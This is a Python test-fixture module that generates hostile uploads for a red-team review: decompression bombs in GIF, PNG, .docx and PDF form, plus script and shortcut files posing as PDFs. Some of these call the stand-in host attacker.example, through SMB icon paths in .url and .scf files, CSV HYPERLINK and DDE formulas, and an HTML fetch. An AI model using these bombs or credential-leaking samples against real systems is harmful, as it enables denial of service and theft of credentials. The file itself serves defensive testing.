"""Files a hostile reporter attaches: decompression bombs of each format, scripts, shortcuts, long names.

The bombs are those of the red-team review (``shared/reviews/2026-12-red-team.md``, finding 2), made
here byte by byte so that their cost is known: a GIF whose frames each fill a 9000x9000 canvas, a
PNG whose pixels inflate from almost nothing, a .docx with one part of zeros, a PDF stream
compressed twice over. ``bench/bombs.py`` measures what each costs the desk.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

MIB = 1024 * 1024


def gif_bomb(width: int = 9000, height: int = 9000, frames: int = 6) -> bytes:
    """A GIF of one-pixel frames on a huge canvas: tens of bytes that Pillow draws as full canvases."""
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    one_pixel = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    control = b"\x21\xf9\x04\x00\x01\x00\x00\x00"  # a graphic control extension: 10 ms, no disposal
    return head + (control + one_pixel) * frames + b"\x3b"


def _zeros(size: int, level: int = 9) -> bytes:
    """``size`` zero bytes, deflated, without holding them in memory."""
    packer = zlib.compressobj(level)
    chunk = bytes(MIB)
    parts = [packer.compress(chunk) for _ in range(size // MIB)]
    parts.append(packer.compress(bytes(size % MIB)))
    parts.append(packer.flush())
    return b"".join(parts)


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 9000, height: int = 9000) -> bytes:
    """An RGB PNG of black pixels: its IDAT inflates about a thousand times."""
    raw = height * (1 + 3 * width)  # each row: a filter byte, then the pixels
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", _zeros(raw)) + _png_chunk(b"IEND", b"")
    )


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def docx_bomb(inflated: int = 1024 * MIB) -> bytes:
    """A .docx whose word/document.xml is ``inflated`` bytes of zeros (a few hundred KiB deflated)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", CONTENT_TYPES)
        part_info = zipfile.ZipInfo("word/document.xml")
        part_info.compress_type = zipfile.ZIP_DEFLATED
        with package.open(part_info, "w", force_zip64=True) as part:
            chunk = bytes(MIB)
            for _ in range(inflated // MIB):
                part.write(chunk)
    return out.getvalue()


def pdf_bomb(inflated: int = 1024 * MIB) -> bytes:
    """A one-page PDF with a stream of ``inflated`` zeros compressed twice (/FlateDecode /FlateDecode)."""
    twice = zlib.compress(_zeros(inflated), 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
        b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(twice) + twice + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def noise_png(width: int, height: int, seed: int = 7) -> bytes:
    """A legal but costly PNG: random pixels (nothing to compress), within every format budget."""
    import random

    from PIL import Image

    pixels = random.Random(seed).randbytes(width * height * 3)
    out = io.BytesIO()
    Image.frombytes("RGB", (width, height), pixels).save(out, "PNG", compress_level=1)
    return out.getvalue()


# Active files declared as harmless PDFs: each would run, or contact a server, when opened on Windows.
SCRIPTS: dict[str, bytes] = {
    "bang-chung.hta": b'<hta:application id="x"/><script>new ActiveXObject("WScript.Shell").Run("calc")</script>',
    "lenh.bat": b"@echo off\r\nstart calc\r\n",
    "lenh.cmd": b"start calc\r\n",
    "vb.vbs": b'CreateObject("WScript.Shell").Run "calc"\r\n',
    "tep.js": b'WScript.CreateObject("WScript.Shell").Run("calc");\n',
    "lien-ket.url": b"[InternetShortcut]\r\nURL=file://attacker.example/share\r\nIconFile=\\\\attacker.example\\i.ico\r\n",
    "thu-muc.scf": b"[Shell]\r\nCommand=2\r\nIconFile=\\\\attacker.example\\share\\i.ico\r\n",
    "anh.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "bang.csv": b'ten,so\r\n=HYPERLINK("http://attacker.example/?x="&A1,"bam"),1\r\n=cmd|\' /C calc\'!A0,2\r\n',
    "khoa.reg": b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\x]\r\n",
    "trang.html": b"<!doctype html><html><body><script>fetch('https://attacker.example/')</script></body></html>",
    "lenh.ps1": b"Start-Process calc\n",
}
